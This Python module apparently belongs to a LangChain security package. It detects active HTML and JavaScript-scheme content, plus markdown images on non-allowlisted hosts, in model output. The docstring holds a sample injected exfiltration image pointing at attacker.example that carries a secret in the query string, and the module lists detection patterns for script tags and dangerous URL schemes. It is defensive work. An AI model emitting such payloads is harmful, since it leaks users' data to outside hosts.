"""Active content and markdown-image exfiltration in model output.

Two categories:

* ``active_content``: HTML that runs code when rendered (``<script>``,
  ``<iframe>``, ``<object>``, ``<embed>``, ``on*=`` handlers, meta refresh) and
  links or attributes whose URL scheme is dangerous (``javascript:``,
  ``vbscript:``, ``data:text/html`` and friends), in HTML attributes, markdown
  links, autolinks and reference definitions. Ordinary links are left alone.
* ``markdown_image_exfiltration``: markdown (or HTML) images whose host is not on
  an allowlist. A rendered image is fetched without a click, so an injected
  ``![](https://attacker.example/?q=<secret>)`` leaks data; images on allowed
  hosts and relative images are kept.

All rules match on the folded detection view, so zero-width characters,
fullwidth letters and odd casing (``JaVaScRiPt:``) do not hide them.

The shared instance (no image host allowed) is registered as ``"content"``.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

import re2

from langchain_mistral_secure.detection.engine import (
    Finding,
    Rule,
    RuleDetector,
    register_detector,
)
from langchain_mistral_secure.detection.normalize import DetectionView, build_view

__all__ = [
    "CONTENT_CATEGORIES",
    "IMAGE_MAX_LEN",
    "ContentDetector",
    "host_allowed",
]

CONTENT_CATEGORIES: tuple[str, ...] = ("active_content", "markdown_image_exfiltration")
"""Categories the content detector reports."""


def _spaced(word: str) -> str:
    """A word whose letters may be split by ASCII whitespace (browsers drop it)."""
    return r"\s{0,3}".join(re2.escape(char) for char in word)


_SCHEME = (
    r"(?:"
    + _spaced("javascript")
    + "|"
    + _spaced("vbscript")
    + "|"
    + _spaced("livescript")
    + r")\s{0,3}:"
    + r"|"
    + _spaced("data")
    + r"\s{0,3}:\s{0,3}(?:text/html|text/javascript|text/xml|application/xhtml\+xml|"
    r"application/javascript|application/x-javascript|image/svg\+xml)"
)
_DANGEROUS_URL = r"(?:" + _SCHEME + r")[^\s\"'<>]{0,120}"
_URL_ATTRS = (
    r"(?:href|src|action|formaction|data|xlink:href|background|poster|lowsrc|"
    r"dynsrc|srcdoc|codebase|cite|ping)"
)
# Up to three adjacent tags per match (fewer matches on tag floods); the span
# covers the tag name and its first attributes, which is enough to defuse it.
_HTML_TAG = r"(?:</?(?:script|iframe)\b[^<>]{0,60}>?){1,3}"
# Tag names that are also type names (List<Object>, Vec<Base>): only after a
# character that cannot end an identifier.
_HTML_TAG_EMBED = (
    r"(?:^|[^a-z0-9_])((?:</?(?:object|embed|applet|frame|frameset|base)\b"
    r"[^<>]{0,60}>?){1,3})"
)
_META_REFRESH = (
    r"<\s{0,4}meta\b[^>]{0,120}http-equiv\s{0,4}=\s{0,4}[\"']?refresh[^>]{0,90}>?"
)
_EVENT_HANDLER = (
    r"<[a-z][a-z0-9\-]{0,20}[^>]{0,100}?[\s/\"'](on[a-z]{3,20}\s{0,4}=\s{0,4}"
    r"(?:\"[^\"]{0,100}\"?|'[^']{0,100}'?|[^\s>]{1,100}))"
)
_MD_LINK_URL = r"\]\(\s{0,4}<?\s{0,4}(" + _DANGEROUS_URL + r")"
_ATTR_URL = _URL_ATTRS + r"\s{0,4}=\s{0,4}[\"']?\s{0,4}(" + _DANGEROUS_URL + r")"
_ATTR_ENTITY = (
    _URL_ATTRS
    + r"\s{0,4}=\s{0,4}[\"']?\s{0,4}"
    + r"((?:&#x?[0-9a-f]{1,8};?|&(?:tab|newline|colon);)[^\s\"'>]{0,100})"
)
_AUTOLINK = r"<\s{0,4}(" + _DANGEROUS_URL + r")>?"
_REF_DEF = r"\[[^\]\n]{1,60}\]:\s{0,4}<?\s{0,4}(" + _DANGEROUS_URL + r")"

_HOST_CHARS = r"[a-z0-9.\-_~%@:\[\]]"
_MD_IMAGE = (
    r"!\[[^\]\n]{0,90}\]\(\s{0,4}<?\s{0,4}(?:https?:)?//"
    + _HOST_CHARS
    # The host and up to 120 more characters; ContentDetector.detect then
    # extends the finding to the closing parenthesis (see IMAGE_MAX_LEN).
    + r"{1,100}[^\s)>\"']{0,120}\)?"
)
# A reference-style image, ``![alt][label]`` or ``![alt][]``: its URL is in a
# definition that may come anywhere (even later in a stream), so every such
# usage is reported, whatever the host. Not after an identifier character
# (``vec![a][0]`` is Rust, not markdown): see _after_identifier.
# Up to 8 images in a row (spaces or tabs between) are one finding, so a flood
# of them costs few findings.
_MD_IMAGE_REF_ONE = r"!\[[^\]\n]{0,90}\] ?\[[^\]\n]{0,60}\]"
_MD_IMAGE_REF = _MD_IMAGE_REF_ONE + r"(?:[ \t]{0,3}" + _MD_IMAGE_REF_ONE + r"){0,7}"
IMAGE_MAX_LEN = 2048
"""Longest markdown image finding: from ``![`` to the closing ``)``.

A longer image is redacted up to this many characters and the rest is kept
(the image is already broken, so nothing is fetched); an image with no
closing ``)`` yet runs to the end of its line or of the text.
"""
_HTML_IMAGE = (
    r"<\s{0,4}img\b[^>]{0,100}?\bsrc\s{0,4}=\s{0,4}[\"']?\s{0,4}(?:https?:)?//"
    + _HOST_CHARS
    + r"{1,100}"
)
_HOST_IN_IMAGE = re2.compile(r"//([^/\s)>?#\"'\\]{1,256})")

ACTIVE_RULES: tuple[Rule, ...] = (
    Rule(
        id="content.html_tag",
        category="active_content",
        pattern=_HTML_TAG,
        max_len=234,
        description="script / iframe tag (open or close).",
    ),
    Rule(
        id="content.html_embed_tag",
        category="active_content",
        pattern=_HTML_TAG_EMBED,
        group=1,
        max_len=256,
        description="object / embed / applet / frame / base tag (open or close).",
    ),
    Rule(
        id="content.meta_refresh",
        category="active_content",
        pattern=_META_REFRESH,
        max_len=256,
        description="<meta http-equiv=refresh> redirect.",
    ),
    Rule(
        id="content.event_handler",
        category="active_content",
        pattern=_EVENT_HANDLER,
        group=1,
        max_len=256,
        description="on*= event handler attribute inside an HTML tag.",
    ),
    Rule(
        id="content.markdown_link_scheme",
        category="active_content",
        pattern=_MD_LINK_URL,
        group=1,
        max_len=256,
        description="Markdown link or image whose target has a dangerous scheme.",
    ),
    Rule(
        id="content.attribute_scheme",
        category="active_content",
        pattern=_ATTR_URL,
        group=1,
        max_len=256,
        description="HTML URL attribute (href, src, ...) with a dangerous scheme.",
    ),
    Rule(
        id="content.attribute_entity",
        category="active_content",
        pattern=_ATTR_ENTITY,
        group=1,
        max_len=160,
        description="HTML URL attribute opening with a character entity.",
    ),
    Rule(
        id="content.autolink_scheme",
        category="active_content",
        pattern=_AUTOLINK,
        group=1,
        max_len=256,
        description="Autolink <javascript:...> with a dangerous scheme.",
    ),
    Rule(
        id="content.reference_scheme",
        category="active_content",
        pattern=_REF_DEF,
        group=1,
        max_len=256,
        description="Markdown reference definition with a dangerous scheme.",
    ),
)
"""Rules of the ``active_content`` category (matched on the detection view)."""


def host_allowed(host: str, allowlist: Sequence[str]) -> bool:
    """Return whether ``host`` is an allowlisted host or a subdomain of one.

    Userinfo and port are ignored; comparison is case-insensitive. An entry
    starting with ``"."`` allows only subdomains.

    Example:
        >>> host_allowed("img.example.com", ("example.com",))
        True
        >>> host_allowed("example.com.evil.io", ("example.com",))
        False
    """
    value = host.rsplit("@", 1)[-1].lower()
    if value.startswith("["):
        value = value.split("]", 1)[0] + "]"
    else:
        value = value.split(":", 1)[0]
    value = value.rstrip(".")
    for entry in allowlist:
        allowed = entry.lower().rstrip(".")
        if allowed.startswith("."):
            if value.endswith(allowed):
                return True
        elif value == allowed or value.endswith("." + allowed):
            return True
    return False


class ContentDetector(RuleDetector):
    """Finds active content and markdown images on non-allowlisted hosts.

    Args:
        image_host_allowlist: Hosts whose images may stay (subdomains
            included); every other absolute image URL is reported as
            ``markdown_image_exfiltration``.
        detect_active_content: Whether to report ``active_content``.
        detect_images: Whether to report ``markdown_image_exfiltration``.

    Example:
        >>> detector = ContentDetector(image_host_allowlist=("cdn.example.com",))
        >>> text = "![a](https://cdn.example.com/a.png) ![b](https://evil.io/?q=x)"
        >>> [text[f.start:f.end] for f in detector.detect(text)]
        ['![b](https://evil.io/?q=x)']
    """

    def __init__(
        self,
        *,
        image_host_allowlist: Iterable[str] = (),
        detect_active_content: bool = True,
        detect_images: bool = True,
    ) -> None:
        """Compile the rules; the allowlist is fixed for the instance."""
        self.image_host_allowlist: tuple[str, ...] = tuple(
            host.strip().lower() for host in image_host_allowlist if host.strip()
        )
        rules: list[Rule] = []
        if detect_active_content:
            rules.extend(ACTIVE_RULES)
        if detect_images:
            rules.extend(self._image_rules())
        super().__init__(rules, name="content")

    def __repr__(self) -> str:
        """Show the rule and allowlist counts (never any text)."""
        return (
            f"ContentDetector(rules={len(self.rules)}, "
            f"allowed_image_hosts={len(self.image_host_allowlist)})"
        )

    def detect(self, text: str, *, view: DetectionView | None = None) -> list[Finding]:
        """Return active-content and image findings in ``text`` (unmerged).

        Args:
            text: The text to scan.
            view: An already built detection view of ``text`` to share.
        """
        closer = _Closer(text)
        return [
            closer.extend(_balanced(text, finding))
            for finding in super().detect(text, view=view)
            if not _after_identifier(text, finding)
        ]

    def _image_rules(self) -> list[Rule]:
        validator = self._external_image
        return [
            Rule(
                id="content.markdown_image",
                category="markdown_image_exfiltration",
                pattern=_MD_IMAGE,
                validator=validator,
                # The match itself; the extended finding may be longer, but a
                # stream holds it whole while it is open (no ``)`` yet).
                max_len=340,
                description="Markdown image on a host outside the allowlist.",
            ),
            Rule(
                id="content.markdown_image_reference",
                category="markdown_image_exfiltration",
                pattern=_MD_IMAGE_REF,
                # One image: a run grows image by image at the end of a stream,
                # so holding one image's length keeps the run whole.
                max_len=160,
                description="Reference-style markdown image (any host).",
            ),
            Rule(
                id="content.html_image",
                category="markdown_image_exfiltration",
                pattern=_HTML_IMAGE,
                validator=validator,
                max_len=256,
                description="HTML <img src> on a host outside the allowlist.",
            ),
        ]

    def _external_image(self, matched: str) -> bool:
        """Keep the finding when the image host is not allowlisted."""
        folded = build_view(matched).text.replace(" ", "")
        found = _HOST_IN_IMAGE.search(folded)
        if found is None:
            return True
        return not host_allowed(found.group(1), self.image_host_allowlist)


def _after_identifier(text: str, finding: Finding) -> bool:
    """A reference-style "image" right after an identifier (``vec![a][0]``)."""
    if finding.rule_id != "content.markdown_image_reference" or finding.start == 0:
        return False
    before = text[finding.start - 1]
    return before.isalnum() or before == "_"


def _balanced(text: str, finding: Finding) -> Finding:
    """Leave a markdown link's closing parenthesis out of a URL finding."""
    if finding.rule_id != "content.markdown_link_scheme":
        return finding
    span = text[finding.start : finding.end]
    end = finding.end
    while span.endswith(")") and span.count(")") > span.count("("):
        span = span[:-1]
        end -= 1
    if end <= finding.start:
        return finding
    return Finding(
        start=finding.start,
        end=end,
        rule_id=finding.rule_id,
        category=finding.category,
        score=finding.score,
    )


class _Closer:
    """Extends markdown image findings to their closing parenthesis.

    The next ``)`` and the next newline are looked up once and reused while
    findings move forward, so a text full of images is scanned in linear time.
    """

    __slots__ = ("_close", "_last", "_newline", "_text")

    def __init__(self, text: str) -> None:
        self._text = text
        self._close = -2
        self._newline = -2
        self._last = 0

    def _next(self, char: str, cached: int, pos: int) -> int:
        if cached == -1 or cached >= pos:
            return cached
        return self._text.find(char, pos)

    def extend(self, finding: Finding) -> Finding:
        """``finding`` up to its ``)`` (or line/text end), at most IMAGE_MAX_LEN."""
        if finding.rule_id != "content.markdown_image":
            return finding
        text = self._text
        if text[finding.end - 1] == ")":
            return finding
        if finding.end < self._last:
            self._close = self._newline = -2
        self._last = finding.end
        self._close = self._next(")", self._close, finding.end)
        self._newline = self._next("\n", self._newline, finding.end)
        stops = [pos for pos in (self._close, self._newline) if pos >= 0]
        # The closing parenthesis is part of the image; a newline is not.
        if stops and min(stops) == self._close:
            end = self._close + 1
        elif stops:
            end = self._newline
        else:
            end = len(text)
        end = min(end, finding.start + IMAGE_MAX_LEN)
        if end <= finding.end:
            return finding
        return Finding(
            start=finding.start,
            end=end,
            rule_id=finding.rule_id,
            category=finding.category,
            score=finding.score,
        )


register_detector("content", ContentDetector)
